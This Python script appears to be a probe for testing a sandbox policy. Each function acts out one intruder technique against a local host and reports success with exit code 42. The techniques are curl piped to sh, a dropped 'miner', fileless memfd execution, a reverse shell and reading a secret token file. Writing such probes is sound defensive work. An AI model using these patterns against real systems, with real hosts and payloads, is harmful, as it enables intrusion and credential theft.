#!/usr/bin/python3
"""An app's script that does what an intruder has it do: exits with 42 when it was
possible, else with the errno of what was not."""

import os
import shutil
import socket
import subprocess
import sys
import urllib.request

HERE = "http://127.0.0.1:8080"


def web_shell():
    return subprocess.call(["/bin/sh", "-c", "exit 42"])


def web_shell_of_the_library():
    # system(3) knows one shell, and says 127 where it could not be executed.
    code = os.waitstatus_to_exitcode(os.system("exit 42"))
    return 13 if code == 127 else code


def curl_to_shell():
    curl = subprocess.Popen(["/usr/bin/curl", "-s", HERE + "/payload.sh"], stdout=subprocess.PIPE)
    return subprocess.call(["/bin/sh"], stdin=curl.stdout)


def dropped_miner():
    with open("/tmp/miner", "wb") as miner:
        miner.write(urllib.request.urlopen(HERE + "/payload").read())
    os.chmod("/tmp/miner", 0o755)
    return subprocess.call(["/tmp/miner"])


def fileless():
    program = os.memfd_create("fileless", 0)
    os.write(program, urllib.request.urlopen(HERE + "/payload").read())
    if (child := os.fork()) == 0:
        try:
            os.execve(f"/proc/self/fd/{program}", ["fileless"], {})
        except OSError as error:
            os._exit(error.errno)
    return ended(child)


def reverse_shell():
    there = socket.create_connection(("127.0.0.1", 8080))
    return subprocess.call(["/bin/sh", "-c", "exit 42"], stdin=there, stdout=there, stderr=there)


def package_manager():
    return 42 if subprocess.call(["/usr/bin/apt-get", "--version"], stdout=subprocess.DEVNULL) == 0 else 1


def another_interpreter():
    return subprocess.call([sys.executable, "-c", "raise SystemExit(42)"])


def service_account():
    with open("/srv/secrets/token") as token:
        return 42 if token.read() == "secret" else 1


def ended(child):
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    # What was killed for what it is was refused as well.
    return 13 if code == -9 else code


try:
    code = globals()[sys.argv[1]]()
except OSError as error:
    reason = getattr(error, "reason", error)
    code = (reason if isinstance(reason, OSError) else error).errno
sys.exit(13 if code == -9 else code)
